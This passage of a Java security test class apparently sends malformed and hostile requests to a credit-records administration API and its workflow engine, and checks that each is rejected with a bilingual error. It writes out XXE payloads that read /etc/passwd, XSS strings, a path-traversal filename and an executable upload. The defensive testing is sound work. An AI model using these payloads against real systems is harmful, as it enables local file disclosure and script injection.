      corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "name", "食品经营许可" + flaw),
          "item name with a flaw"));
    }
    corpus.add(put("/api/catalogue/SCJG-SP-001", "admin", with(itemMap, "materials", List.of("<b>申请书</b>")),
        "material name in markup"));
    corpus.add(raw("PUT", "/api/catalogue/SCJG-SP-001", "admin", "application/xml", XXE, "catalogue XXE"));
    // --- objections and repairs (portal, clerk, credit-office)
    Map<String, Object> objection = Map.of("subjectCode", existingSubject, "recordId", 999999999, "reason", "记录有误");
    corpus.add(post("/api/objections", "portal", objection, "objection to an unknown record"));
    corpus.add(post("/api/objections", "portal", with(objection, "subjectCode", valid.toLowerCase()), "objection, lower-case code"));
    corpus.add(post("/api/objections", "portal", with(objection, "recordId", -1), "objection, negative record id"));
    corpus.add(post("/api/objections", "portal", with(objection, "recordId", "abc"), "objection, record id not a number"));
    corpus.add(post("/api/objections", "portal", with(objection, "reason", "理".repeat(2001)), "objection, reason too long"));
    corpus.add(post("/api/objections", "portal", with(objection, "reason", INJECTIONS.get(0)), "objection, injection"));
    corpus.add(post("/api/objections", "portal", with(objection, "extra", true), "objection, extra field"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/objections", "portal", with(objection, "reason", "记录有误" + flaw), "objection reason with a flaw"));
      corpus.add(post("/api/objections", "portal", with(objection, "evidence", List.of("凭证" + flaw)),
          "objection evidence with a flaw"));
    }
    corpus.add(raw("POST", "/api/objections", "portal", "application/xml", XXE, "objection XXE"));
    corpus.add(post("/api/objections", "portal", with(objection, "evidenceFiles", List.of("not-an-id")),
        "objection, evidence file id not an id"));
    corpus.add(post("/api/objections", "portal", with(objection, "evidenceFiles", "x"), "objection, evidence files not a list"));
    // --- evidence files: what is not a PDF, PNG or JPEG by its bytes, or not what it claims, is not kept
    corpus.add(evidence("说明.pdf", "application/pdf", "%PDF-1.4 only text", "evidence, text declared PDF"));
    corpus.add(evidence("说明.txt", "text/plain", "只是文字", "evidence, a text file"));
    corpus.add(evidence("page.html", "text/html", "<script>alert(1)</script>", "evidence, HTML"));
    corpus.add(evidence("image.svg", "image/svg+xml", "<svg onload=\"alert(1)\"/>", "evidence, SVG"));
    corpus.add(evidence("run.exe", null, "MZ\u0090\u0000", "evidence, an executable"));
    corpus.add(evidence("x.xml", "application/xml", XXE, "evidence, XXE"));
    corpus.add(evidence("../../etc/passwd", "application/pdf", "root:x:0:0", "evidence, a path for a name"));
    corpus.add(evidence("空.pdf", "application/pdf", "", "evidence, empty"));
    corpus.add(raw("POST", "/api/evidence", "portal", "application/json", "{\"file\":\"x\"}", "evidence, JSON body"));
    // --- corrections by data providers (provider asks, credit-office answers)
    Map<String, Object> correction = Map.of("subjectCode", existingSubject, "recordId", 999999999, "explanation",
        "依据写错", "evidence", List.of("更正说明函"), "revoke", true);
    corpus.add(post("/api/corrections", "provider", correction, "correction of an unknown record"));
    corpus.add(post("/api/corrections", "provider", without(correction, "evidence"), "correction without evidence"));
    corpus.add(post("/api/corrections", "provider", without(correction, "revoke"), "correction that changes nothing"));
    corpus.add(post("/api/corrections", "provider", with(correction, "publicityEnd", "2026-13-45"),
        "correction, impossible date"));
    corpus.add(post("/api/corrections", "provider", with(correction, "subjectCodeCorrected",
        TestCodes.usccWithWrongCheck()), "correction to a code with a wrong check character"));
    corpus.add(post("/api/corrections", "provider", with(correction, "explanation", "说".repeat(2001)),
        "correction, explanation too long"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/corrections", "provider", with(correction, "explanation", "依据写错" + flaw),
          "correction explanation with a flaw"));
    }
    corpus.add(raw("POST", "/api/corrections", "provider", "application/xml", XXE, "correction XXE"));
    corpus.add(post("/api/corrections/GZ20260101999999/answer", "credit-office", Map.of("confirm", true),
        "answer to an unknown correction"));
    corpus.add(post("/api/corrections/GZ20260101999999/answer", "credit-office", Map.of("reason", "无"),
        "answer without a decision"));
    Map<String, Object> repair = Map.of("subjectCode", existingSubject, "recordId", 999999999, "evidence", List.of("缴款凭证"),
        "obligationsFulfilled", true, "finePaid", true,
        "repairLetter", Map.of("signer", "王法人", "textSha256", "0".repeat(64)));
    corpus.add(post("/api/repairs", "portal", repair, "repair of an unknown record"));
    Map<String, Object> letterFor = Map.of("subjectCode", existingSubject, "recordId", 999999999);
    corpus.add(post("/api/repairs/letter", "portal", letterFor, "repair letter of an unknown record"));
    corpus.add(post("/api/repairs/letter", "portal", without(letterFor, "recordId"), "repair letter without a record"));
    corpus.add(post("/api/repairs/letter", "portal", with(letterFor, "recordId", "x"), "repair letter, record of the wrong type"));
    corpus.add(post("/api/repairs/letter", "portal", with(letterFor, "subjectCode", TestCodes.usccWithWrongCheck()),
        "repair letter, wrong check character"));
    corpus.add(raw("POST", "/api/repairs/letter", "portal", "application/xml", XXE, "repair letter XXE"));
    corpus.add(post("/api/repairs", "portal", with(repair, "evidence", List.of()), "repair without evidence"));
    corpus.add(post("/api/repairs", "portal", with(repair, "finePaid", "yes"), "repair, flag of the wrong type"));
    corpus.add(post("/api/repairs", "portal", with(repair, "repairLetterSigned", true), "repair, the old flag instead of the letter"));
    corpus.add(post("/api/repairs", "portal", with(repair, "repairLetter", Map.of("signer", "王法人", "textSha256", "xyz")),
        "repair, letter hash not a SHA-256"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/repairs", "portal", with(repair, "repairLetter", Map.of("signer", "王" + flaw,
          "textSha256", "0".repeat(64))), "repair letter signer with a flaw"));
    }
    corpus.add(post("/api/repairs", "portal", with(repair, "subjectCode", TestCodes.usccWithWrongCheck()), "repair, wrong check character"));
    corpus.add(post("/api/repairs", "portal", without(repair, "finePaid"), "repair, missing flag"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/repairs", "portal", with(repair, "evidence", List.of("缴款凭证" + flaw)),
          "repair evidence with a flaw"));
      corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal",
          Map.of("evidence", List.of("x"), "note", "补充" + flaw), "supplement note with a flaw"));
    }
    corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal", Map.of("evidence", List.of("x")), "supplement of an unknown repair"));
    corpus.add(post("/api/repairs/XF20990101999999/supplement", "portal", Map.of("evidence", List.of()), "empty supplement"));
    corpus.add(raw("POST", "/api/repairs/XF20990101999999/supplement", "portal", "application/xml", XXE, "supplement XXE"));
    // --- supervision (credit-office)
    corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", "123", "reason", "x"), "reminder, invalid code"));
    corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject, "reason", " "), "reminder, blank reason"));
    corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject, "reason", "理".repeat(501)),
        "reminder, reason too long"));
    corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject, "reason", "x", "x", 1),
        "reminder, extra field"));
    for (String flaw : TEXT_FLAWS) {
      corpus.add(post("/api/negative-reminders", "credit-office", Map.of("subjectCode", existingSubject,
          "reason", "多次投诉" + flaw), "reminder reason with a flaw"));
    }
    corpus.add(raw("DELETE", "/api/negative-reminders/999999999", "credit-office", "application/json", "", "remove an unknown reminder"));
    corpus.add(raw("DELETE", "/api/negative-reminders/abc", "credit-office", "application/json", "", "reminder id not a number"));
    corpus.add(raw("POST", "/api/risk-warnings/scan?asOf=not-a-date", "credit-office", "application/json", "", "scan, malformed date"));
    corpus.add(raw("POST", "/api/risk-warnings/scan?asOf=2026-13-45", "credit-office", "application/json", "", "scan, impossible date"));
    // --- calendar
    corpus.add(raw("POST", "/api/calendar/reload", "admin", "application/json", "{}", "reload a broken operator file"));
    // --- engine deployments (camunda-admin)
    corpus.add(deployment("broken.bpmn", "<definitions>not bpmn", "malformed BPMN"));
    corpus.add(deployment("xxe.bpmn", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
        + "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\"><process id=\"p&x;\""
        + " isExecutable=\"true\"/></definitions>", "BPMN with an external entity"));
    corpus.add(deployment("noHistory.bpmn", "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\""
        + " targetNamespace=\"x\"><process id=\"p\" isExecutable=\"true\"><startEvent id=\"s\"/>"
        + "<sequenceFlow id=\"f\" sourceRef=\"s\" targetRef=\"missing\"/></process></definitions>", "BPMN with a dangling flow"));
    corpus.add(deployment("broken.dmn", "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\">"
        + "<decision id=\"d\"><decisionTable><output id=\"o\"/><rule><outputEntry><text>(</text></outputEntry></rule>",
        "malformed DMN"));
    corpus.add(deployment("xxe.dmn", XXE, "DMN with an external entity"));
    corpus.add(deployment("broken.form", "{\"components\": [", "malformed form"));
    return corpus;
  }

  private String check(Attack attack, HttpResponse<String> answer) {
    int status = answer.statusCode();
    String at = attack.method() + " " + attack.path().substring(0, Math.min(80, attack.path().length())) + " ("
        + attack.what() + ") → " + status + " " + answer.body().substring(0, Math.min(300, answer.body().length()));
    if (status < 400 || status >= 500) {
      return at;
    }
    if (attack.path().startsWith("/api/")) {
      try {
        JsonNode problem = json.readTree(answer.body());
        if (problem.path("messageZh").asText().isBlank() || problem.path("messageEn").asText().isBlank()) {
          return at + " (no bilingual message)";
        }
      } catch (Exception e) {
        return at + " (not problem+json)";
      }
    }
    return null;
  }

  private HttpResponse<String> send(Attack attack) {
    HttpRequest.Builder builder = http.request(attack.path(), attack.user(), "demo");
    if (attack.contentType() != null) {
      builder.header("Content-Type", attack.contentType());
    }
    return http.send(builder.method(attack.method(), HttpRequest.BodyPublishers.ofString(attack.body(),
        StandardCharsets.UTF_8)));
  }

  private Map<String, Long> rowCounts() {
    Map<String, Long> counts = new LinkedHashMap<>();
    for (String table : PRODUCT_TABLES) {
      counts.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
    }
    return counts;
  }

  private Attack post(String path, String user, Object body, String what) throws Exception {
    return raw("POST", path, user, "application/json", json.writeValueAsString(body), what);
  }

  private Attack put(String path, String user, Object body, String what) throws Exception {
    return raw("PUT", path, user, "application/json", json.writeValueAsString(body), what);
  }

  private static Attack raw(String method, String path, String user, String type, String body, String what) {
    return new Attack(method, path, user, type, body, what);
  }

  /** One multipart upload of an evidence file, as a browser sends it. */
  private static Attack evidence(String file, String type, String content, String what) {
    String boundary = "----cc" + UUID.randomUUID();
    String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + file + "\"\r\n"
        + (type == null ? "" : "Content-Type: " + type + "\r\n") + "\r\n" + content + "\r\n--" + boundary + "--\r\n";
    return new Attack("POST", "/api/evidence", "portal", "multipart/form-data; boundary=" + boundary, body, what);
  }

  private static Attack deployment(String file, String content, String what) {
    String boundary = "----cc" + UUID.randomUUID();
    String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"deployment-name\"\r\n\r\nhostile-"
        + file + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + file + "\"; filename=\"" + file
        + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + content + "\r\n--" + boundary + "--\r\n";
    return new Attack("POST", "/engine-rest/deployment/create", "admin", "multipart/form-data; boundary=" + boundary,
        body, what);
  }

  static Map<String, Object> with(Map<String, Object> base, String key, Object value) {
    Map<String, Object> copy = new LinkedHashMap<>(base);
    copy.put(key, value);
    return copy;
  }

  static Map<String, Object> without(Map<String, Object> base, String key) {
    Map<String, Object> copy = new LinkedHashMap<>(base);
    copy.remove(key);
    return copy;
  }
}
